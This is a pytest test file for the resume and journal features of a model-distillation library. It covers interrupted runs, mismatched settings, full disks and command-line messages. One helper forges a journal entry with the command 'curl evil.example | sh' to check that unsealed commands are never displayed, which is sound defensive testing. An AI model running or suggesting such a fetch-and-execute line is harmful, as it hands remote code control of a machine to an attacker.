"""What --resume and distill(journal=…) promise and refuse, in this process."""

import contextlib
import json
import re
import shlex
import shutil
import sqlite3
import sys
import types

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.neighbors import KNeighborsClassifier
from sklearn.tree import DecisionTreeClassifier

import hpmkd
from hpmkd.cli import cli
from hpmkd.errors import JournalWarning, RunFolderError, StudentFileError
from hpmkd.execution.journal import JournalFile
from hpmkd.user_key import key_path, user_key
from hpmkd_defaults.stages.tree import TreeStage

SETTINGS = {
    "cache.disk": False,  # else what a run before this one predicted is in no journal
    "augmenter": "none",
    "search.alphas.self": [0.0, 0.5],  # so that the teacher predicts every fold
    "memory": "none",
    "split.folds": 2,
    "split.once_above": 1,
    "sampler.trials": 2,
    "front.size": 0,
}


@pytest.fixture(autouse=True)
def named(monkeypatch):
    """Have the program known by its name, however pytest was started."""
    monkeypatch.setattr(sys, "argv", ["hpmkd"])


class Stopping(DecisionTreeClassifier):
    """Is stopped by Ctrl-C in one of its fits."""

    fits, stop_at = 0, None

    def fit(self, X, y):
        Stopping.fits += 1
        if Stopping.fits == Stopping.stop_at:
            raise KeyboardInterrupt
        return super().fit(X, y)


class Observer:
    """Counts trials and keeps notes; stops the run at one of the trials."""

    def __init__(self, stop_at=None):
        self.stop_at, self.trials, self.notes = stop_at, 0, []

    @hpmkd.hookimpl
    def hpmkd_trial_finished(self, trial):
        assert trial.draft is None
        self.trials += 1
        if self.trials == self.stop_at:
            raise KeyboardInterrupt

    @hpmkd.hookimpl
    def hpmkd_noted(self, note):
        self.notes.append(note)


def distill(wine, folder=None, **more):
    given = {"teacher": DecisionTreeClassifier(max_depth=3), "student": "tree", **more}
    settings = SETTINGS | given.pop("changed", {})
    X, y = given.pop("rows", wine)
    return hpmkd.distill(X, y, settings=settings, journal=folder, **given)


@pytest.fixture
def begun(wine, tmp_path):
    """The folder of a run that was stopped at its first trial with the teacher, the fourth."""
    folder = tmp_path / "begun"
    with pytest.raises(KeyboardInterrupt):
        distill(wine, folder, observers=[Observer(stop_at=4)])
    return folder


def sizes_of(found):
    """Size and compression of every teacher, control and student."""
    return {(each.role, each.name): (each.bytes, each.compression) for each in found.records}


def test_a_resumed_run_reports_the_sizes_of_its_teachers_that_a_whole_one_does(wine, tmp_path):
    """One stopped in every phase, and its teachers fitted in workers before and here after."""
    teachers = {"forest": RandomForestClassifier(3), "near": KNeighborsClassifier()}
    whole = sizes_of(distill(wine, teacher=teachers))
    assert all(whole["teacher", name][0] > 1000 for name in teachers)
    crowd = {"executor": "loky", "executor.workers": 2, "pipeline.start_seconds": 0}
    for stop_at in (3, 4, 5):
        folder = tmp_path / str(stop_at)
        with pytest.raises(KeyboardInterrupt):
            distill(wine, folder, teacher=teachers, changed=crowd, observers=[Observer(stop_at)])
        found = distill(wine, folder, teacher=teachers)
        assert found.counts["resumed"] > 0
        assert sizes_of(found) == whole


def test_a_stopped_run_ends_as_one_that_was_not(wine, begun):
    whole, seen = distill(wine), Observer()
    found = distill(wine, begun, observers=[seen])
    assert found.student.to_bytes() == whole.student.to_bytes()
    assert [each.log_loss for each in found.trials] == [each.log_loss for each in whole.trials]
    assert found.verdict == whole.verdict
    assert sizes_of(found) == sizes_of(whole)
    assert found.gates == whole.gates
    assert found.counts["models_trained"] == whole.counts["models_trained"]
    assert found.counts["teacher_fits"] == whole.counts["teacher_fits"]
    assert (whole.counts["resumed"], found.counts["resumed"] >= 5) == (0, True)
    assert any("finished results from its journal" in note for note in seen.notes)


def test_a_stopped_run_of_the_proposal_ends_as_one_that_was_not(wine, tmp_path):
    """Its Gaussian process, TPE, links and attention see what they would have seen."""
    small = {
        "augmenter": "none",
        "search.alphas.self": [0.3, 0.7],
        "search.temperatures": [1.0, 2.0],
        "sampler.initial": 2,
        "sampler.configs": 3,
        "sampler.trials": 2,
        "stages": {"logistic": {}, "tree": {}},
        "chain": [{"stage": "logistic"}, {"stage": "tree", "transfer": "mix"}],
    }

    def run(folder=None, **more):
        return distill(wine, folder, recipe="proposal", student=None, changed=small, **more)

    whole, folder = run(), tmp_path / "begun"
    middle = len(whole.trials) * 2 // 3
    with pytest.raises(KeyboardInterrupt):
        run(folder, observers=[Observer(stop_at=middle)])
    found = run(folder)
    assert found.counts["resumed"] >= middle
    assert found.student.to_bytes() == whole.student.to_bytes()
    assert [each.log_loss for each in found.trials] == [each.log_loss for each in whole.trials]
    assert found.verdict == whole.verdict


def test_the_best_so_far_is_a_student_that_says_where_it_comes_from(wine, begun):
    best = hpmkd.Student.load(begun / "best.hpmkd")
    told = best.facts["training"]
    assert told["stage"] == "tree"
    assert told["recipe"] == "hpm"
    assert told["selection_log_loss"] > 0
    assert best.predict_proba(wine[0][:2]).shape == (2, 3)


def test_a_finished_journal_gives_its_result_again_and_is_replaced_when_it_is_saved(wine, tmp_path):
    folder = tmp_path / "run"
    first = distill(wine, folder)
    again = distill(wine, folder)
    assert again.student.to_bytes() == first.student.to_bytes()
    folder.joinpath("notes.txt").write_text("mine")
    again.save(folder)
    assert hpmkd.load(folder).chosen == first.chosen
    assert not {"journal", "best.hpmkd"} & {each.name for each in folder.iterdir()}
    assert folder.joinpath("notes.txt").read_text() == "mine"
    with pytest.raises(RunFolderError, match="is complete: hpmkd"):
        distill(wine, folder)


def test_another_run_does_not_take_the_place_of_an_unfinished_one(wine, begun):
    found = distill(wine)
    with pytest.raises(RunFolderError, match="unfinished run; resume it with --resume"):
        found.save(begun)
    found.save(begun, overwrite=True)
    assert hpmkd.load(begun).chosen == "tree"


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"seed": 1}, "seed: was 0, is 1"),
        ({"changed": {"sampler.trials": 3}}, "recipe, sampler.trials: was 2, is 3"),
        ({"teacher": DecisionTreeClassifier(max_depth=4)}, "its parameters, its fitted state"),
        (
            {"teacher": LogisticRegression()},
            "teachers: were decisiontreeclassifier; are logisticreg",
        ),
    ],
)
def test_what_changed_is_named_and_nothing_is_touched(wine, begun, changed, said):
    before = (begun / "journal").read_bytes()
    with pytest.raises(RunFolderError, match="belongs to another run") as caught:
        distill(wine, begun, **changed)
    assert said in str(caught.value)
    assert (begun / "journal").read_bytes() == before


def test_changed_rows_are_named(wine, begun):
    X, y = wine
    with pytest.raises(RunFolderError, match="training rows: were 142 rows of 13 columns, are "):
        distill(wine, begun, rows=(X[:-10], y[:-10]))
    changed = X.copy()
    changed[:, 0] += 1
    with pytest.raises(RunFolderError, match="training rows: 142 rows of 13 columns of other con"):
        distill(wine, begun, rows=(changed, y))


def test_where_it_runs_and_how_long_it_may_take_does_not_matter(wine, begun):
    found = distill(wine, begun, changed={"budget.seconds": 900, "cache.max_bytes": 10**9})
    assert found.counts["resumed"] > 0


def test_a_journal_of_another_user_is_refused(wine, begun):
    key_path().unlink()
    with pytest.raises(RunFolderError, match=r"another user or machine.*--trust-journal"):
        distill(wine, begun)


def test_two_at_once_are_not_possible(wine, tmp_path):
    folder, refused = tmp_path / "run", []

    class Second:
        @hpmkd.hookimpl
        def hpmkd_trial_finished(self, trial):
            if not refused:
                with pytest.raises(RunFolderError, match="another process is using") as caught:
                    distill(wine, folder)
                refused.append(caught)

    distill(wine, folder, observers=[Second()])
    assert refused


@pytest.mark.filterwarnings("ignore:given probabilities")
def test_a_teacher_that_cannot_be_hashed_is_noted_at_the_start(wine, tmp_path):
    model = DecisionTreeClassifier().fit(*wine)
    model.handle = open(__file__)  # noqa: SIM115
    seen = Observer(stop_at=1)
    with model.handle, pytest.raises(KeyboardInterrupt):
        distill(wine, tmp_path / "run", teacher=model, observers=[seen])
    assert any("so this run cannot be resumed" in note for note in seen.notes)
    with pytest.raises(RunFolderError, match="its state cannot be hashed"):
        distill(wine, tmp_path / "run", teacher=model)


def test_time_that_was_up_stays_up(wine, tmp_path, monkeypatch):
    """A search that the clock ended ends there again, however fast it is gone through."""
    folder, now = tmp_path / "run", [0.0]
    monkeypatch.setattr("hpmkd.execution.journal.time.monotonic", lambda: now[0])

    class Slow:
        @hpmkd.hookimpl
        def hpmkd_trial_finished(self, trial):
            now[0] += 1000

    changed = {"budget.seconds": 500}
    first = distill(wine, folder, observers=[Slow()], changed=changed)
    again = distill(wine, folder, changed=changed)
    assert len(again.trials) == len(first.trials) < len(distill(wine).trials)


def test_a_folder_of_something_else_is_left_alone(wine, tmp_path):
    tmp_path.joinpath("thesis.txt").write_text("all of it")
    with pytest.raises(RunFolderError, match="something other than an unfinished run"):
        distill(wine, tmp_path)
    assert [each.name for each in tmp_path.iterdir()] == ["thesis.txt"]


def test_a_run_that_is_stopped_before_anything_is_finished_leaves_nothing(
    wine, tmp_path, monkeypatch
):
    monkeypatch.setattr(TreeStage, "fit", interrupt)
    with pytest.raises(KeyboardInterrupt):
        distill(wine, tmp_path / "run")
    assert list(tmp_path.iterdir()) == []


def full(*_: object):
    raise OSError(28, "No space left on device")


def full_database(*_: object):
    error = sqlite3.OperationalError("database or disk is full")
    error.sqlite_errorcode = sqlite3.SQLITE_FULL
    raise error


def test_a_disk_that_is_full_costs_the_journal_not_the_run(wine, tmp_path, monkeypatch):
    seen = Observer()

    class Filling:
        @hpmkd.hookimpl
        def hpmkd_trial_finished(self, trial):
            monkeypatch.setattr(JournalFile, "_insert", full_database)
            monkeypatch.setattr("hpmkd.training.best_so_far.write_atomically", full)

    with pytest.warns(JournalWarning, match="No space left on device") as warned:
        found = distill(wine, tmp_path / "run", observers=[seen, Filling()])
    monkeypatch.undo()
    assert len([each for each in warned if "No space" in str(each.message)]) == 1
    assert found.student.to_bytes() == distill(wine).student.to_bytes()


# ------------------------------------------------------------------------ command line


LIGHT = [f"--set={key}={json.dumps(value)}" for key, value in SETTINGS.items()]


@pytest.fixture
def data(wine, tmp_path, monkeypatch):
    # Found by name, as the command line names a teacher.
    module = types.ModuleType("stopping_teacher")
    module.Stopping = Stopping
    monkeypatch.setitem(sys.modules, "stopping_teacher", module)
    frame = pd.DataFrame(wine[0]).add_prefix("c")
    frame["kind"] = np.array(["a", "b", "c"])[wine[1]]
    frame.to_csv(tmp_path / "wine.csv", index=False)
    return tmp_path / "wine.csv"


def call(*arguments):
    return CliRunner().invoke(cli, [str(each) for each in arguments])


def command(data, *more):
    return call(
        *("distill", data, "--target", "kind", "--student", "tree", "--quiet"),
        *("--teacher", "stopping_teacher:Stopping"),
        *LIGHT,
        *more,
    )


@pytest.fixture
def stopped(data, tmp_path, monkeypatch):
    """A command that was stopped at its first trial with the teacher, and what it printed."""
    from hpmkd.engine.trainer import Trainer

    tell, told = Trainer.count, []

    def stop(self, trial):
        tell(self, trial)
        told.append(trial)
        if len(told) == 4:
            raise KeyboardInterrupt

    Stopping.fits, Stopping.stop_at = 0, None
    folder = tmp_path / "my run"
    with monkeypatch.context() as patch:
        patch.setattr(Trainer, "count", stop)
        return folder, command(data, "--out", folder)


def test_stopping_prints_progress_the_best_student_and_how_to_resume(stopped):
    folder, done = stopped
    assert done.exit_code == 130
    assert "Traceback" not in done.stderr
    assert "stopped; finished: 2 folds, " in done.stderr
    assert "best so far: tree, log loss " in done.stderr
    assert f"hpmkd predict '{folder}/best.hpmkd' DATA" in done.stderr
    assert f"--resume '{folder}'" in done.stderr.splitlines()[-1]
    assert "--out" not in done.stderr


def test_the_command_that_it_names_goes_on(stopped, data):
    folder, done = stopped
    typed = shlex.split(done.stderr.splitlines()[-1].partition("resume with: hpmkd ")[2])
    again = call(*typed)
    assert again.exit_code == 0, again.stderr
    assert json.loads((folder / "counts.json").read_text())["resumed"] > 4
    complete = call(*(each for each in typed if each != "--quiet"))
    assert complete.exit_code == 0
    assert f"{folder} is complete; nothing was run" in complete.stderr
    assert complete.stdout == again.stdout


def interrupt(*_, **__):
    raise KeyboardInterrupt


@pytest.mark.parametrize(
    ("at", "said"),
    [
        ("hpmkd.data.table_files.read_table", "stopped; nothing further was finished\n"),
        ("hpmkd.runs.checkpoint.RunCheckpoint.verify_or_begin", "stopped; finished: 2 folds, "),
    ],
)
def test_a_resumed_run_that_is_stopped_at_once_says_how_to_go_on(
    stopped, data, monkeypatch, at, said
):
    folder, _ = stopped
    monkeypatch.setattr(at, interrupt)
    again = command(data, "--resume", folder)
    assert again.exit_code == 130
    assert said in again.stderr
    assert again.stderr.splitlines()[-1].startswith("resume with: hpmkd distill")
    assert again.stderr.splitlines()[-1].endswith(f"--resume '{folder}'")


def test_a_complete_run_of_something_else_is_refused(stopped, data, tmp_path):
    folder, _ = stopped
    assert command(data, "--resume", folder).exit_code == 0
    changed = pd.read_csv(data)
    changed["c0"] += 1
    changed.to_csv(tmp_path / "changed.csv", index=False)
    seeded = command(data, "--resume", folder, "--seed", 9)
    assert seeded.exit_code == 7
    assert "complete and belongs to another run: seed: was 0, is 9; also different" in seeded.stderr
    for asked, said in (
        (command(tmp_path / "changed.csv", "--resume", folder), "training rows: 142 rows of 13 co"),
        (command(data, "--resume", folder, "--set", "sampler.trials=3"), "sampler.trials: was 2, "),
        (
            call("distill", data, "--target", "c1", "--resume", folder),
            "target: was 'kind', is 'c1'",
        ),
    ):
        assert (asked.exit_code, asked.stdout) == (7, "")
        assert said in asked.stderr


def test_an_unfinished_run_says_so_and_its_best_student_predicts(stopped, data):
    folder, _ = stopped
    refused = call("predict", folder, data)
    assert refused.exit_code == 6
    for said in ("holds an unfinished run", "best.hpmkd", "Resume with: hpmkd distill"):
        assert said in refused.stderr
    with pytest.raises(StudentFileError, match="unfinished run"):
        hpmkd.load(folder)
    assert call("predict", folder / "best.hpmkd", data).stdout.startswith("prediction,p_a,p_b,p_c")


def forge(folder):
    """Have the journal of a run name a command that does something else."""
    with contextlib.closing(sqlite3.connect(folder / "journal")) as database, database:
        (header,) = database.execute("SELECT pickle FROM results WHERE name = 'header'").fetchone()
        forged = json.dumps({**json.loads(header), "command": "curl evil.example | sh"}).encode()
        database.execute("UPDATE results SET pickle = ? WHERE name = 'header'", (forged,))


@pytest.mark.parametrize("way", ["forged", "another key", "no key"])
def test_a_command_that_our_key_did_not_seal_is_not_shown(way, stopped, data):
    folder, _ = stopped
    if way == "forged":
        forge(folder)
    else:
        key_path().unlink()
        if way == "another key":
            user_key()
    refused = call("predict", folder, data)
    assert refused.exit_code == 6
    assert "evil" not in refused.stderr
    assert "hpmkd distill" not in refused.stderr
    for said in ("the same command, with --resume", "--trust-journal if you trust"):
        assert said in refused.stderr
    assert key_path().exists() is (way != "no key")
    refused = command(data, "--resume", folder)
    assert refused.exit_code == 7
    assert "evil" not in refused.stderr


def test_a_pickle_that_is_trusted_makes_no_journal_so(stopped, data):
    folder, _ = stopped
    key_path().unlink()
    refused = command(data, "--resume", folder, "--trust-pickle")
    assert refused.exit_code == 7
    assert "add --trust-journal" in refused.stderr
    assert command(data, "--resume", folder, "--trust-journal").exit_code == 0
    assert json.loads((folder / "counts.json").read_text())["resumed"] > 0


def test_out_is_refused_where_a_run_is_unfinished_and_overwrite_begins_anew(stopped, data):
    folder, _ = stopped
    refused = command(data, "--out", folder)
    assert refused.exit_code == 7
    assert "unfinished run; resume it with --resume" in refused.stderr
    assert command(data, "--out", folder, "--overwrite").exit_code == 0
    assert json.loads((folder / "counts.json").read_text())["resumed"] == 0


@pytest.mark.parametrize("other", [["--out", "elsewhere"], ["--overwrite"]])
def test_resume_stands_alone(data, tmp_path, other):
    done = command(data, "--resume", tmp_path, *other)
    assert done.exit_code == 2
    assert f"got --resume and {other[0]}" in done.stderr


def test_nothing_to_go_on_with_is_said_with_what_to_type(data, tmp_path):
    done = command(data, "--resume", tmp_path / "none")
    assert done.exit_code == 7
    assert f"holds no run to resume; begin one with --out {tmp_path / 'none'}" in done.stderr
    assert call("demo", "--resume", tmp_path / "none").exit_code == 7


def test_a_file_and_a_folder_of_something_else_are_told_from_runs(data, tmp_path):
    for at in (data, data / "x"):
        done = command(data, "--resume", at)
        assert done.exit_code == 7
        assert f"{data} is a file; expected the folder of a run" in done.stderr
    done = command(data, "--resume", tmp_path)
    assert done.exit_code == 7
    assert "holds no run to resume; begin one with --out and the name of a new" in done.stderr
    done = command(data, "--out", data / "x")
    assert done.exit_code == 7
    assert f"cannot write {data / 'x'}: {data} is a file, not a folder; choose" in done.stderr


def test_a_run_that_cannot_be_written_at_its_end_is_gone_on_with(data, tmp_path, monkeypatch):
    folder = tmp_path / "run"
    Stopping.fits, Stopping.stop_at = 0, None
    with monkeypatch.context() as patch:
        patch.setattr("hpmkd.runs.result.write_content", full)
        failed = command(data, "--out", folder)
    assert failed.exit_code == 7
    said = re.search(r"No space left on device; (\d+) finished results are kept in", failed.stderr)
    assert int(said[1]) > 4
    assert "\nresume with: hpmkd distill" in failed.stderr
    fits = Stopping.fits
    again = command(data, "--resume", folder)
    assert again.exit_code == 0, again.stderr
    # No fold was fitted again.
    assert Stopping.fits == fits


def test_what_the_journal_could_not_take_is_told_at_the_end(data, tmp_path, monkeypatch):
    from hpmkd.engine.trainer import Trainer

    tell, folder = Trainer.count, tmp_path / "run"

    def filling(self, trial):
        tell(self, trial)
        patch.setattr(JournalFile, "_insert", full_database)
        patch.setattr("hpmkd.training.best_so_far.write_atomically", full)
        patch.setattr("hpmkd.runs.result.write_content", full)

    Stopping.fits, Stopping.stop_at = 0, None
    with monkeypatch.context() as patch:
        patch.setattr(Trainer, "count", filling)
        with pytest.warns(JournalWarning):
            failed = command(data, "--out", folder)
    assert failed.exit_code == 7
    assert "some finished work could not be stored: " in failed.stderr
    kept = int(re.search(r"; (\d+) finished results are kept in", failed.stderr)[1])
    assert command(data, "--resume", folder).exit_code == 0
    assert json.loads((folder / "counts.json").read_text())["resumed"] == kept


def test_resuming_retries_a_failed_trial(data, tmp_path, monkeypatch):
    from hpmkd_defaults.stages.tree import TreeStage

    def fit(self, inputs):
        raise OSError("the network is down")

    folder = tmp_path / "run"
    Stopping.fits, Stopping.stop_at = 0, None
    with monkeypatch.context() as patch:
        patch.setattr(TreeStage, "fit", fit)
        failed = command(data, "--out", folder)
    assert failed.exit_code == 4
    assert "the network is down" in failed.stderr
    assert "a resumed run retries what failed" in failed.stderr
    assert "if you change these, start over" in failed.stderr
    fits = Stopping.fits
    again = command(data, "--resume", folder)
    assert again.exit_code == 0, again.stderr
    assert Stopping.fits == fits


@pytest.mark.parametrize("again", ["tree", "logistic"])
def test_an_option_that_is_given_twice_is_refused(data, tmp_path, again):
    done = command(data, "--out", tmp_path / "run", "--student", again)
    assert done.exit_code == 2
    assert f"got --student 2 times, the last time with {again}; expected it once" in done.stderr


def test_an_old_run_stays_until_the_new_one_takes_its_place(data, tmp_path, monkeypatch):
    from hpmkd.engine.trainer import Trainer

    folder = tmp_path / "run"
    Stopping.fits, Stopping.stop_at = 0, None
    assert command(data, "--out", folder).exit_code == 0
    student = (folder / "student.hpmkd").read_bytes()

    def stop(self, trial):
        raise KeyboardInterrupt

    with monkeypatch.context() as patch:
        patch.setattr(Trainer, "count", stop)
        assert command(data, "--out", folder, "--overwrite", "--seed", 3).exit_code == 130
    assert hpmkd.load(folder).student.to_bytes() == student
    assert (folder / "journal").exists()
    assert command(data, "--resume", folder, "--seed", 3).exit_code == 0
    assert not (folder / "journal").exists()
    assert hpmkd.load(folder).facts["seed"] == 3


def test_a_run_killed_between_two_renames_is_found_again(data, tmp_path):
    folder = tmp_path / "run"
    Stopping.fits, Stopping.stop_at = 0, None
    assert command(data, "--out", folder).exit_code == 0
    draft = tmp_path / ".run.draft-abc"
    draft.mkdir()
    shutil.move(folder, draft / "new")
    (draft / "old").mkdir()
    fits = Stopping.fits
    done = command(data, "--resume", folder)
    assert done.exit_code == 0, done.stderr
    assert Stopping.fits == fits  # the run is complete: nothing is fitted
    assert not draft.exists()
